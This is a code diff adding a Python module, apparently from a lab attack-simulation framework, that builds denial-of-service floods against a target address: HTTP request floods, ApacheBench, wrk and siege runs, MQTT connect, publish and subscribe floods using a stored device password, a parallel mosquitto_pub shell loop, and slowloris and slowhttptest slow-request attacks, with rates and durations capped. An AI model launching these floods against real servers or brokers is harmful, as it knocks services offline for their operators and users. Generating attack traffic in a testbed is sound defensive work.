@@ -1,0 +1,195 @@
+"""Floods of requests: HTTP and MQTT servers, and the slow kind."""
+
+from __future__ import annotations
+
+from wirespeak.lab.attacks.tool import MOST_PACKETS_PER_S, Strike, own, tool
+
+
+@tool("flood.http")
+def own_http(
+    s: Strike,
+    *,
+    port: int = 80,
+    rate: float = 120.0,
+    workers: int = 20,
+    post: bool = False,
+    keep: bool = False,
+    random_target: bool = True,
+) -> list[str]:
+    """GETs or POSTs from real sockets, a connection each or kept alive."""
+    return own(
+        "requests",
+        "http_flood",
+        target=s.address,
+        port=port,
+        rate=min(rate, 500),
+        workers=workers,
+        post=post,
+        keep=keep,
+        random_target=random_target,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.http", package="apache2-utils")
+def ab(s: Strike, *, rate: float = 60.0, clients: int = 3, keep: bool = False) -> list[str]:
+    """ApacheBench. It knows no pace: `rate` bounds the number of requests, few clients their speed."""
+    count = str(min(1200, s.count(rate)))
+    return [
+        "ab",
+        "-q",
+        "-r",
+        "-s",
+        "5",
+        "-n",
+        count,
+        "-c",
+        str(clients),
+        *(["-k"] if keep else []),
+        f"http://{s.address}/",
+    ]
+
+
+@tool("flood.http", package="wrk")
+def wrk(s: Strike) -> list[str]:
+    """wrk on one connection at a time for at most five seconds: it knows no pace."""
+    return [
+        "wrk",
+        "-t1",
+        "-c1",
+        f"-d{int(min(5, s.seconds))}s",
+        "-H",
+        "Connection: close",
+        f"http://{s.address}/",
+    ]
+
+
+@tool("flood.http", package="siege")
+def siege(s: Strike, *, clients: int = 8, pause: float = 0.1) -> list[str]:
+    """siege: clients that each wait up to `pause` seconds between requests."""
+    return [
+        "siege",
+        "-q",
+        f"-c{clients}",
+        f"-d{pause}",
+        f"-t{int(min(20, s.seconds))}S",
+        f"http://{s.address}/api/state",
+    ]
+
+
+@tool("flood.mqtt")
+def own_mqtt_connect(
+    s: Strike, *, rate: float = 80.0, port: int = 1883, password: bool = True, politely: bool = False
+) -> list[str]:
+    """Connection after connection to the broker."""
+    return own(
+        "requests",
+        "mqtt_connect_flood",
+        target=s.address,
+        port=port,
+        rate=min(rate, 400),
+        seconds=s.seconds,
+        password=s.world.passwords["device"] if password else "",
+        politely=politely,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.mqtt")
+def own_mqtt_publish(
+    s: Strike,
+    *,
+    rate: float = 400.0,
+    size: int = 200,
+    qos: int = 0,
+    clients: int = 10,
+    port: int = 1883,
+    per_connection: int = 40,
+) -> list[str]:
+    """Messages as fast as told, from many connections that come and go."""
+    return own(
+        "requests",
+        "mqtt_publish_flood",
+        target=s.address,
+        port=port,
+        rate=min(rate, MOST_PACKETS_PER_S),
+        size=size,
+        qos=qos,
+        clients=clients,
+        per_connection=per_connection,
+        seconds=s.seconds,
+        password=s.world.passwords["device"],
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.mqtt")
+def own_mqtt_subscribe(s: Strike, *, rate: float = 60.0, port: int = 1883) -> list[str]:
+    """Connections that each subscribe to everything, again and again."""
+    return own(
+        "requests",
+        "mqtt_connect_flood",
+        target=s.address,
+        port=port,
+        rate=min(rate, 400),
+        seconds=s.seconds,
+        password=s.world.passwords["device"],
+        politely=False,
+        subscriptions=12,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.mqtt", package="mosquitto-clients")
+def mosquitto_pub_storm(s: Strike, *, parallel: int = 8, lines: int = 20) -> list[str]:
+    """Many mosquitto_pub processes, each sending lines and leaving."""
+    base = f"seq {int(lines)} | mosquitto_pub -h {s.address} -t storm/$1 -l -u bulb -P {s.world.passwords['device']}"
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {base}; done) & done; wait",
+    ]
+
+
+@tool("flood.slow")
+def slowloris(
+    s: Strike, *, connections: int = 120, interval: float = 4.0, body: bool = False, port: int = 80
+) -> list[str]:
+    """Requests that never end: a header line, or with `body` a few bytes, now and then."""
+    return own(
+        "requests",
+        "slow_http",
+        target=s.address,
+        port=port,
+        connections=connections,
+        interval=interval,
+        body=body,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.slow", package="slowhttptest")
+def slowhttptest(s: Strike, *, mode: str = "H", connections: int = 100, interval: int = 4) -> list[str]:
+    """mode H headers, B body, X slow read."""
+    extra = {"H": [], "B": ["-s", "8192"], "X": ["-w", "10", "-y", "20", "-n", "3", "-z", "32", "-k", "3"]}[
+        mode
+    ]
+    return [
+        "slowhttptest",
+        f"-{mode}",
+        "-c",
+        str(connections),
+        "-i",
+        str(interval),
+        "-r",
+        "40",
+        "-l",
+        str(int(s.seconds)),
+        "-u",
+        f"http://{s.address}/",
+        "-p",
+        "3",
+        *extra,
+    ]
